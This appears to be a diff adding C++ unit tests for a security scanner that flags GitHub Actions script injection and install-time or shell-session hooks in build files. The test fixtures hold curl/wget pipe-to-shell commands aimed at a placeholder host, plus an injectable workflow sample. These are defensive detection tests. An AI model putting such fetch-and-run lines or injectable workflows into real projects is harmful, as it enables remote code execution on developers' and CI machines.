@@ -253,3 +253,75 @@ run("curl -s http://x.invalid/a | sh");
 
 }  // namespace
 }  // namespace hazmat::testing
+
+namespace hazmat::testing {
+namespace {
+
+TEST(CodeRules, UntrustedInputWrittenToGithubEnv) {
+    const auto scan = scan_source(".github/workflows/triage.yml", R"(on: issue_comment
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "TITLE=${{ github.event.issue.title }}" >> "$GITHUB_ENV"
+      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
+        with:
+          script: console.log("${{ github.event.comment.body }}")
+)");
+    const auto env_file = scan.of("HZ-CI-005");
+    ASSERT_THAT(env_file, SizeIs(1));
+    EXPECT_EQ(env_file[0].location.line, 6u);
+    const auto injection = scan.of("HZ-CI-001");
+    ASSERT_THAT(injection, SizeIs(2));
+    EXPECT_EQ(injection[0].location.line, 6u);
+    EXPECT_EQ(injection[1].location.line, 9u);
+    EXPECT_THAT(injection[1].message, ::testing::HasSubstr("github-script"));
+}
+
+TEST(CodeRules, SafeEnvironmentIndirectionInWorkflowIsClean) {
+    const auto scan = scan_source(".github/workflows/ok.yml", R"(on: pull_request
+jobs:
+  t:
+    runs-on: ubuntu-latest
+    steps:
+      - env:
+          TITLE: ${{ github.event.pull_request.title }}
+        run: echo "$TITLE"
+)");
+    EXPECT_THAT(scan.findings, IsEmpty());
+}
+
+TEST(CodeRules, InstallAndSessionSurfacesNameWhenTheyRun) {
+    const auto conda = scan_source("recipe/post-link.sh", "echo linked\n");
+    ASSERT_THAT(conda.of("HZ-CODE-008"), SizeIs(1));
+    EXPECT_THAT(conda.of("HZ-CODE-008")[0].message, ::testing::HasSubstr("install time"));
+    const auto envrc = scan_source(".envrc", "curl -s https://x.invalid/env | sh\n");
+    ASSERT_THAT(envrc.of("HZ-CODE-031"), SizeIs(1));
+    EXPECT_EQ(envrc.of("HZ-CODE-031")[0].severity, Severity::critical);
+    EXPECT_THAT(envrc.of("HZ-CODE-011"), SizeIs(1));
+    const auto gyp = scan_source("binding.gyp",
+                                 "{'targets': [{'sources': ['<!(curl -s https://x.invalid/g)']}]}");
+    ASSERT_THAT(gyp.of("HZ-CODE-007"), SizeIs(1));
+    EXPECT_EQ(gyp.of("HZ-CODE-007")[0].severity, Severity::medium);
+    const auto make = scan_source("Makefile",
+                                  "V := $(shell curl -s https://x.invalid/v)\n"
+                                  "all:\n\t@wget -qO- https://x.invalid/b | sh\n");
+    EXPECT_THAT(make.of("HZ-CODE-012"), SizeIs(1));
+    ASSERT_THAT(make.of("HZ-CODE-031"), SizeIs(1));
+    EXPECT_EQ(make.of("HZ-CODE-031")[0].location.line, 3u);
+    const auto cmake =
+        scan_source("CMakeLists.txt",
+                    "execute_process(COMMAND curl -sSL https://x.invalid/i.sh COMMAND sh)\n"
+                    "file(DOWNLOAD https://x.invalid/dep.tgz dep.tgz)\n");
+    EXPECT_THAT(cmake.of("HZ-CODE-012"), SizeIs(2));
+}
+
+TEST(CodeRules, SitecustomizeRunsAtInterpreterStart) {
+    const auto scan = scan_source("lib/sitecustomize.py", "import os\nos.system('id')\n");
+    const auto surface = scan.of("HZ-CODE-005");
+    ASSERT_THAT(surface, SizeIs(1));
+    EXPECT_THAT(surface[0].message, ::testing::HasSubstr("every interpreter start"));
+}
+
+}  // namespace
+}  // namespace hazmat::testing
